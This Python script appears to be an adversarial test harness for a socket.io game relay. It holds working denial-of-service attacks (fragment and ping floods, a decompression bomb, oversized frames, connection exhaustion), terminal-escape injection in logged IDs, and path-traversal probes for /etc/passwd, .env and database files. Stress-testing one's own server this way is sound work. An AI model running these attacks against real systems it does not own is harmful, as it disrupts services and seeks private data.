"""What a stranger can do to a relay, each in a process of its own: `python attacks.py NAME URL SECONDS`.

Raw sockets, since no library sends what is sent here. Each attack goes on for so many seconds, connects anew when it is
cut off, and prints what became of it as one line of JSON.
"""

from __future__ import annotations

import asyncio
import base64
import contextlib
import json
import os
import sys
import time
import zlib
from collections import Counter
from collections.abc import Awaitable, Callable
from typing import Any
from urllib.parse import urlsplit

MASK = b"\x00\x00\x00\x00"


def frame(data: bytes, first: int = 0x81) -> bytes:
    size = len(data)
    if size < 126:
        head = bytes((first, 0x80 | size))
    elif size < 65536:
        head = bytes((first, 0xFE)) + size.to_bytes(2, "big")
    else:
        head = bytes((first, 0xFF)) + size.to_bytes(8, "big")
    return head + MASK + data


def event(name: str, payload: Any) -> bytes:
    return frame(("42" + json.dumps([name, payload])).encode())


class Gone(Exception):
    """The server has closed the connection."""


class Raw:
    """A WebSocket to the relay. What comes is read and thrown away, but for what is waited for."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.reader = reader
        self.writer = writer
        self.closed_by = 0
        self._rest = b""

    @classmethod
    async def open(cls, host: str, port: int, *, reads: bool = True) -> Raw:
        reader, writer = await asyncio.open_connection(host, port)
        key = base64.b64encode(os.urandom(16)).decode()
        writer.write(
            f"GET /socket.io/?EIO=4&transport=websocket HTTP/1.1\r\nHost: {host}:{port}\r\nUpgrade: websocket\r\n"
            f"Connection: Upgrade\r\nSec-WebSocket-Key: {key}\r\nSec-WebSocket-Version: 13\r\n\r\n".encode()
        )
        try:
            await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 10)
        except (asyncio.IncompleteReadError, ConnectionError, TimeoutError):
            writer.close()
            raise Gone from None
        return cls(reader, writer)

    async def connect(self) -> None:
        """Be a socket of socket.io."""
        await self.send(frame(b"40"))
        await self.until(b"40{")

    async def until(self, what: bytes) -> bytes:
        """Everything up to what contains that, and what came with it."""
        while what not in self._rest:
            found = await asyncio.wait_for(self.reader.read(65536), 10)
            if not found:
                raise Gone
            self._rest += found
        rest, self._rest = self._rest, b""
        return rest

    async def send(self, data: bytes) -> None:
        try:
            self.writer.write(data)
            await asyncio.wait_for(self.writer.drain(), 10)
        except (ConnectionError, TimeoutError):
            raise Gone from None
        if self.reader.at_eof():
            raise Gone

    async def drop(self) -> None:
        """Read what is there, so that the server is never kept waiting."""
        with contextlib.suppress(TimeoutError):
            while True:
                if not await asyncio.wait_for(self.reader.read(1 << 20), 0.001):
                    raise Gone

    def close(self) -> None:
        with contextlib.suppress(Exception):
            self.writer.transport.abort()


Attack = Callable[[str, int, float], Awaitable[dict[str, Any]]]
ATTACKS: dict[str, Attack] = {}


def attack(function: Attack) -> Attack:
    ATTACKS[function.__name__] = function
    return function


async def repeated(host: str, port: int, until: float, data: bytes, *, at_once: int = 1) -> dict[str, Any]:
    """The same again and again by one connection after another."""
    told: Counter[str] = Counter()
    while time.monotonic() < until:
        raw = None
        try:
            raw = await Raw.open(host, port)
            await raw.connect()
            told["opened"] += 1
            while time.monotonic() < until:
                await raw.send(data * at_once)
                told["sent"] += at_once
                await raw.drop()
        except (Gone, OSError, TimeoutError):
            told["closed"] += 1
            # A stranger who is cut off has to connect anew; so fast it can.
            await asyncio.sleep(0.01)
        finally:
            if raw is not None:
                raw.close()
    return dict(told)


@attack
async def fragments(host: str, port: int, until: float) -> dict[str, Any]:
    """A message of one byte a fragment, which never ends."""
    return await repeated(host, port, until, frame(b"x", 0x01) + frame(b"x", 0x00) * 500)


@attack
async def pings(host: str, port: int, until: float) -> dict[str, Any]:
    """Each wants an answer."""
    return await repeated(host, port, until, frame(b"x" * 100, 0x89), at_once=200)


@attack
async def events(host: str, port: int, until: float) -> dict[str, Any]:
    """Small events without a game."""
    return await repeated(host, port, until, event("pyodide_player_action", {"game_id": "x"}), at_once=100)


@attack
async def empty_frames(host: str, port: int, until: float) -> dict[str, Any]:
    """The smallest there are."""
    return await repeated(host, port, until, frame(b"3"), at_once=300)


@attack
async def numbers(host: str, port: int, until: float) -> dict[str, Any]:
    """Ten megabytes of JSON numbers as metrics."""
    text = '42["p2p_session_metrics",{"game_id":"g","player_id":0,"episode":0,"metrics":[' + "1," * 5_000_000 + "1]}]"
    return await repeated(host, port, until, frame(text.encode()))


@attack
async def dense_signals(host: str, port: int, until: float) -> dict[str, Any]:
    """Signals of as many values as have room."""
    payload = {"game_id": "g", "target_player_id": 1, "type": "offer", "payload": [1] * 15_000}
    return await repeated(host, port, until, event("webrtc_signal", payload))


@attack
async def bombs(host: str, port: int, until: float) -> dict[str, Any]:
    """Eight kilobytes that unpack to eight megabytes."""
    packed = base64.b64encode(zlib.compress(b"[" * (8 * 1_048_576 - 10), 9)).decode()
    payload = {"game_id": "g", "player_id": 0, "episode": 0, "metrics": None, "packed": packed}
    return await repeated(host, port, until, event("p2p_session_metrics", payload))


@attack
async def huge(host: str, port: int, until: float) -> dict[str, Any]:
    """A frame that says that it has an exabyte."""
    return await repeated(host, port, until, bytes((0x81, 0xFF)) + (1 << 60).to_bytes(8, "big") + MASK + b"x" * 1000)


@attack
async def handshakes(host: str, port: int, until: float) -> dict[str, Any]:
    """Connect, and go."""
    opened = 0
    while time.monotonic() < until:
        with contextlib.suppress(Gone, OSError, TimeoutError):
            raw = await Raw.open(host, port)
            await raw.connect()
            raw.close()
            opened += 1
        await asyncio.sleep(0.02)
    return {"opened": opened}


@attack
async def silent(host: str, port: int, until: float) -> dict[str, Any]:
    """Connections on which nothing comes, and WebSockets that never connect, as many as it gets; they are kept."""
    kept: list[tuple[asyncio.StreamReader, asyncio.StreamWriter]] = []
    opened = failed = 0
    while time.monotonic() < until:
        try:
            if opened % 2:
                kept.append(await asyncio.wait_for(asyncio.open_connection(host, port), 5))
            else:
                raw = await Raw.open(host, port)
                kept.append((raw.reader, raw.writer))
            opened += 1
        except (Gone, OSError, TimeoutError):
            failed += 1
            await asyncio.sleep(0.01)
        if len(kept) >= 1500:
            await asyncio.sleep(0.1)
    left = 0
    for reader, writer in kept:
        with contextlib.suppress(TimeoutError, ConnectionError):
            # What it said at first is read, then its end.
            while await asyncio.wait_for(reader.read(1 << 16), 0.002):
                pass
        left += not reader.at_eof()
        writer.transport.abort()
    return {"opened": opened, "failed": failed, "left": left}


async def _session(host: str, port: int) -> str:
    """A socket that was made by requests; its id."""
    sid = (await _request(host, port, "GET", "", b"")).split(b'"sid":"')[1].split(b'"')[0].decode()
    await _request(host, port, "POST", f"&sid={sid}", b"40")
    return sid


@attack
async def posts(host: str, port: int, until: float) -> dict[str, Any]:
    """Requests in the place of a WebSocket, as large as they are taken."""
    told: Counter[str] = Counter()
    text = "\x1e".join(['42["webrtc_signal",{"type":"offer","payload":[' + "1," * 30_000 + "1]}]"] * 16)
    while time.monotonic() < until:
        try:
            sid = await _session(host, port)
            told["opened"] += 1
            while time.monotonic() < until:
                await _request(host, port, "POST", f"&sid={sid}", text.encode())
                told["sent"] += 1
        except (ValueError, IndexError, OSError, TimeoutError, asyncio.IncompleteReadError):
            told["closed"] += 1
            await asyncio.sleep(0.01)
    return dict(told)


@attack
async def posts_anew(host: str, port: int, until: float) -> dict[str, Any]:
    """Sixty dense messages in a request, each time of a session that has just begun."""
    told: Counter[str] = Counter()
    text = "\x1e".join(['42["webrtc_signal",{"type":"offer","payload":[' + "1," * 4000 + "1]}]"] * 60)
    while time.monotonic() < until:
        try:
            await _request(host, port, "POST", f"&sid={await _session(host, port)}", text.encode())
            told["sent"] += 1
        except (ValueError, IndexError, OSError, TimeoutError, asyncio.IncompleteReadError):
            told["closed"] += 1
            await asyncio.sleep(0.01)
    return dict(told)


@attack
async def joins(host: str, port: int, until: float) -> dict[str, Any]:
    """Strangers who come into the waiting room, and go."""
    told: Counter[str] = Counter()

    async def one(number: int) -> None:
        while time.monotonic() < until:
            raw = None
            try:
                raw = await Raw.open(host, port)
                await raw.connect()
                for again in range(200):
                    await raw.send(event("join_game", {"session_id": f"stranger {number} {again}"}))
                    await raw.send(event("leave_game", {}))
                    told["joined"] += 1
                    await raw.drop()
                    if time.monotonic() >= until:
                        break
            except (Gone, OSError, TimeoutError):
                told["closed"] += 1
                await asyncio.sleep(0.01)
            finally:
                if raw is not None:
                    raw.close()

    await asyncio.gather(*(one(number) for number in range(4)))
    return dict(told)


@attack
async def names(host: str, port: int, until: float) -> dict[str, Any]:
    """Ids that speak to a terminal, in whatever has an id or a text that is logged."""
    wild = "\x1b[2J\x1b]0;mine\x07\r\n\x00\x9b31m\u202e"
    told: Counter[str] = Counter()
    while time.monotonic() < until:
        raw = None
        try:
            raw = await Raw.open(host, port)
            await raw.connect()
            for number in range(40):
                ids = {"session_id": wild + str(number), "subject_id": wild, "game_id": wild}
                await raw.send(event("join_game", ids))
                await raw.send(event(wild[:6], ids))
                failed = {"where": "game", "code": wild, "message": wild, "query": f"?PROLIFIC_PID={wild}"}
                await raw.send(event("page_failed", failed))
                await raw.send(event("leave_game", {}))
                told["sent"] += 4
                await raw.drop()
        except (Gone, OSError, TimeoutError):
            told["closed"] += 1
            await asyncio.sleep(0.01)
        finally:
            if raw is not None:
                raw.close()
    return dict(told)


@attack
async def stores(host: str, port: int, until: float) -> dict[str, Any]:
    """Two sockets with a game of their own store as much as is taken."""
    told: Counter[str] = Counter()
    raws = [await Raw.open(host, port) for _ in range(2)]
    for raw in raws:
        await raw.connect()
        await raw.send(event("join_game", {"session_id": os.urandom(8).hex()}))
    begun = await raws[0].until(b'["start_game"')
    if b'"game_id":"' not in begun.partition(b'["start_game"')[2]:
        begun += await raws[0].until(b'"game_id":"')
    game = begun.partition(b'["start_game"')[2].split(b'"game_id":"')[1].split(b'"')[0].decode()
    data = base64.b64encode(os.urandom(190_000)).decode()

    async def one(player: int, raw: Raw) -> None:
        try:
            for part in range(1 << 20):
                record = {"game_id": game, "player_id": player, "part": part, "last": False, "data": data}
                text = json.dumps(["pycore_experienced", record])
                await raw.send(frame(f"42{part}{text}".encode()))
                answer = await raw.until(b'"status"')
                told["stored" if b'"ok"' in answer else "refused"] += 1
                if time.monotonic() >= until:
                    return
        except (Gone, OSError, TimeoutError):
            told["closed"] += 1

    await asyncio.gather(*(one(player, raw) for player, raw in enumerate(raws)))
    return dict(told)


PATHS = (
    "/pycore.db", "/pycore.db-wal", "/.env", "/..%2f..%2fetc/passwd", "/../../../../etc/passwd", "/%2e%2e/etc/passwd",
    "/api/operator", "/api/watch", "/api/watch/over", "/api/games/x", "/metrics", "/api/operator?token=x",
    "/x" * 900, "/%00", "/..\\..\\pycore.db",
)  # fmt: skip
"""What is not a stranger's."""


@attack
async def paths(host: str, port: int, until: float) -> dict[str, Any]:
    """Asks for what is not a stranger's, on one connection after another."""
    told: Counter[str] = Counter()
    while time.monotonic() < until:
        with contextlib.suppress(OSError, TimeoutError, asyncio.IncompleteReadError, asyncio.LimitOverrunError):
            reader, writer = await asyncio.open_connection(host, port)
            try:
                for path in PATHS:
                    writer.write(f"GET {path} HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n".encode())
                    head = await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 10)
                    told[head.split(b" ")[1].decode()] += 1
                    length = head.lower().partition(b"content-length:")[2].split(b"\r\n")[0]
                    await asyncio.wait_for(reader.readexactly(int(length or 0)), 10)
            finally:
                writer.transport.abort()
        told["connections"] += 1
    return dict(told)


async def _request(host: str, port: int, method: str, query: str, body: bytes) -> bytes:
    reader, writer = await asyncio.open_connection(host, port)
    try:
        writer.write(
            f"{method} /socket.io/?EIO=4&transport=polling{query} HTTP/1.1\r\nHost: {host}:{port}\r\n"
            f"Connection: close\r\nContent-Length: {len(body)}\r\n\r\n".encode() + body
        )
        answer = await asyncio.wait_for(reader.read(), 20)
        head, _, rest = answer.partition(b"\r\n\r\n")
        if b" 200 " not in head.split(b"\r\n")[0]:
            raise ValueError(head)
        return rest
    finally:
        writer.transport.abort()


def main(arguments: list[str]) -> None:
    name, url, seconds = arguments
    where = urlsplit(url)
    assert where.hostname is not None
    assert where.port is not None
    until = time.monotonic() + float(seconds)
    print(json.dumps(asyncio.run(ATTACKS[name](where.hostname, where.port, until))))


if __name__ == "__main__":
    main(sys.argv[1:])
